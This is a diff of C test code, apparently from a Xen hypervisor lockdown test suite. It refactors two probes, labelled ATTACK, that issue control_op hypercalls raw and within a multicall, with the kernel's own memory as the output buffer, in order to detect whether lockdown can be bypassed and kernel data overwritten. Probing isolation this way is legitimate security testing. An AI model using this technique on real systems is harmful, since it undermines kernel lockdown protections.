@@ -3,28 +3,16 @@
  * The way that lockdown leaves open, misused: control_op issued raw, past the
  * kernel's check that its buffers are the caller's own.
  */
-#include "../rogue.h"
-
-#include "control_op.h"
+#include "envelope.h"
 
 /* A status call whose answer goes to this address. */
 static struct control_op_call *status_call(uint64_t address)
 {
-    struct control_op_call *call = buffer(PAGE_SIZE);
+    struct control_op_call *call = new_call(CONTROL_OP_STATUS);
 
-    call->version = CONTROL_OP_VERSION;
-    call->operation = CONTROL_OP_STATUS;
-    call->nr_buffers = 1;
+    declare_at(call, address, sizeof(struct control_op_status));
     call->args[0] = CONTROL_OP_REFERENCE(1, 0);
-    call->buffers[0] =
-        (struct control_op_buffer){ address, sizeof(struct control_op_status) };
-
     return call;
-}
-
-static size_t size_of(const struct control_op_call *call)
-{
-    return sizeof(*call) + call->nr_buffers * sizeof(call->buffers[0]);
 }
 
 /* Have a call sent by a raw hypercall; returns what Xen says of it. */
@@ -37,14 +25,13 @@ typedef long send_raw(struct control_op_call *call);
  */
 static enum outcome send_past_kernel(send_raw *send)
 {
-    struct control_op_status *status = buffer(PAGE_SIZE), before, after;
+    struct control_op_status *status = buffer(PAGE_SIZE);
     long result;
 
-    read_victim(&before, sizeof(before));
+    watch_version();
     result = send(status_call(victim()));
-    read_victim(&after, sizeof(after));
 
-    if ( memcmp(&before, &after, sizeof(before)) )
+    if ( version_differs() )
         return effect(true, "the kernel's version overwritten");
     if ( result == -ENOSYS )
         return not_applicable("this Xen has no control_op");
@@ -58,15 +45,13 @@ static enum outcome send_past_kernel(send_raw *send)
 
 static long plain(struct control_op_call *call)
 {
-    return hypercall3(CONTROL_OP_HYPERCALL, call, 1, size_of(call));
+    return hypercall3(CONTROL_OP_HYPERCALL, call, 1, call_size(call));
 }
 
 /* U-CONTROL-RAW: have control_op write its answer over the kernel. */
-ATTACK("U-CONTROL-RAW",
-       "issue control_op raw, with kernel memory as its buffer")
-{
-    return send_past_kernel(plain);
-}
+ATTACK_BY("U-CONTROL-RAW",
+          "issue control_op raw, with kernel memory as its buffer",
+          send_past_kernel(plain))
 
 static long in_multicall(struct control_op_call *call)
 {
@@ -75,7 +60,7 @@ static long in_multicall(struct control_op_call *call)
 
     *entry = (multicall_entry_t){ .op = CONTROL_OP_HYPERCALL,
                                   .args = { (uintptr_t)call, 1,
-                                            size_of(call) } };
+                                            call_size(call) } };
     result = hypercall2(__HYPERVISOR_multicall, entry, 1);
 
     return result ? result : (long)entry->result;
@@ -87,8 +72,7 @@ static long in_multicall(struct control_op_call *call)
  * There control_op has no business at all: each of the two puts off what is
  * left of an interrupted call in a way of its own.
  */
-ATTACK("U-CONTROL-RAW-MULTICALL",
-       "issue control_op within a multicall, with kernel memory as its buffer")
-{
-    return send_past_kernel(in_multicall);
-}
+ATTACK_BY(
+    "U-CONTROL-RAW-MULTICALL",
+    "issue control_op within a multicall, with kernel memory as its buffer",
+    send_past_kernel(in_multicall))
